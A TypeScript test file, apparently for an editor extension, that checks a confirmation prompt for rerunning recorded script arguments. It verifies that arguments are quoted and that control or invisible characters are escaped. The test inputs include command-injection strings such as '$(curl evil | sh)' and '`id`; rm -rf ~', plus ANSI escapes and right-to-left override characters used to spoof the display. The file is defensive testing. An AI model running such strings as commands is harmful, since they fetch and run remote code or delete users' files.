import assert from "node:assert/strict";
import { test } from "node:test";
import {
  argumentLines,
  argumentsPrompt,
  decisionOf,
  EDIT_ARGUMENTS,
  MAX_ARGUMENT_CHARS,
  MAX_SHOWN_ARGUMENTS,
  needsArgumentsConfirmation,
  quoteArgument,
} from "../src/explorer/rerunConfirm";

test("a rerun without arguments starts without asking; any argument asks", () => {
  assert.equal(needsArgumentsConfirmation([]), false);
  assert.equal(needsArgumentsConfirmation(null), false);
  assert.equal(needsArgumentsConfirmation(undefined), false);
  assert.equal(needsArgumentsConfirmation([""]), true);
  assert.equal(needsArgumentsConfirmation(["--lr", "0.1"]), true);
});

test("each argument is quoted so spaces, empty arguments and quotes show", () => {
  assert.equal(quoteArgument("--lr"), '"--lr"');
  assert.equal(quoteArgument("two words"), '"two words"');
  assert.equal(quoteArgument(""), '""');
  assert.equal(quoteArgument('say "hi" \\ bye'), '"say \\"hi\\" \\\\ bye"');
  assert.equal(quoteArgument("$(touch /tmp/pwned)"), '"$(touch /tmp/pwned)"');
  assert.equal(quoteArgument("`id`; rm -rf ~"), '"`id`; rm -rf ~"');
});

test("newlines, ANSI escapes and invisible characters are spelled out", () => {
  assert.equal(quoteArgument("a\nb\r\tc"), '"a\\nb\\r\\tc"');
  assert.equal(quoteArgument("\u001b[2K\u001b[1Agood"), '"\\u001b[2K\\u001b[1Agood"');
  assert.equal(quoteArgument("safe\u202etxt.py"), '"safe\\u202etxt.py"'); // right-to-left override
  assert.equal(quoteArgument("a\u00a0b\u200bc"), '"a\\u00a0b\\u200bc"'); // no-break and zero-width spaces
  assert.equal(quoteArgument("x\u0000y\u007f"), '"x\\u0000y\\u007f"');
  assert.equal(quoteArgument("tag\u{e0041}"), '"tag\\u{e0041}"');
  assert.equal(quoteArgument("naïve ünïcode ✓"), '"naïve ünïcode ✓"');
});

test("a very long argument is cut, saying how much is left", () => {
  const long = "x".repeat(MAX_ARGUMENT_CHARS + 50);
  assert.equal(quoteArgument(long), `"${"x".repeat(MAX_ARGUMENT_CHARS)}"… (50 more characters)`);
  assert.equal(quoteArgument("abcd", 3), '"abc"… (1 more character)');
});

test("a long argument list shows the first ones and counts the rest", () => {
  const args = Array.from({ length: MAX_SHOWN_ARGUMENTS + 7 }, (_, i) => `--a${i}`);
  const lines = argumentLines(args);
  assert.equal(lines.length, MAX_SHOWN_ARGUMENTS + 1);
  assert.equal(lines[0], '  "--a0"');
  assert.equal(lines[MAX_SHOWN_ARGUMENTS - 1], `  "--a${MAX_SHOWN_ARGUMENTS - 1}"`);
  assert.equal(lines[MAX_SHOWN_ARGUMENTS], "  … and 7 more arguments not shown");
  assert.deepEqual(argumentLines(["a", "b"]), ['  "a"', '  "b"']);
});

test("the prompt names the script and run and lists every argument, one per line", () => {
  const args = ["--lr", "0.1", "--out", "$(curl evil | sh)", "multi\nline", "\u001b[8mhidden"];
  const prompt = argumentsPrompt("rerun", "src/train.py", "baseline", args);
  assert.equal(prompt.message, 'Rerun src/train.py with the 6 arguments recorded on run "baseline"?');
  assert.equal(prompt.confirm, "Run");
  assert.equal(prompt.edit, EDIT_ARGUMENTS);
  const lines = prompt.detail.split("\n");
  assert.ok(lines.includes("Script: src/train.py"));
  assert.ok(lines.includes("Arguments (6):"));
  for (const expected of ['"--lr"', '"0.1"', '"--out"', '"$(curl evil | sh)"', '"multi\\nline"', '"\\u001b[8mhidden"']) {
    assert.ok(lines.includes(`  ${expected}`), `missing ${expected} in:\n${prompt.detail}`);
  }
  assert.doesNotMatch(prompt.detail, /\u001b/);
});

test("names from the store cannot break the prompt's layout either", () => {
  const prompt = argumentsPrompt("debug", "evil\nScript: fake.py", "run\u001b[2J", ["x"]);
  assert.equal(prompt.message, 'Debug evil\\nScript: fake.py with the 1 argument recorded on run "run\\u001b[2J"?');
  assert.equal(prompt.confirm, "Debug");
  assert.equal(prompt.detail.split("\n").filter((line) => line.startsWith("Script:")).length, 1);
});

test("Run starts, Edit Arguments… opens the form, Escape or Cancel stops", () => {
  const prompt = argumentsPrompt("rerun", "train.py", "r", ["--x"]);
  assert.equal(decisionOf(prompt, "Run"), "run");
  assert.equal(decisionOf(prompt, EDIT_ARGUMENTS), "edit");
  assert.equal(decisionOf(prompt, undefined), "cancel");
  assert.equal(decisionOf(prompt, "Cancel"), "cancel");
  const debug = argumentsPrompt("debug", "train.py", "r", ["--x"]);
  assert.equal(decisionOf(debug, "Debug"), "run");
  assert.equal(decisionOf(debug, "Run"), "cancel");
});
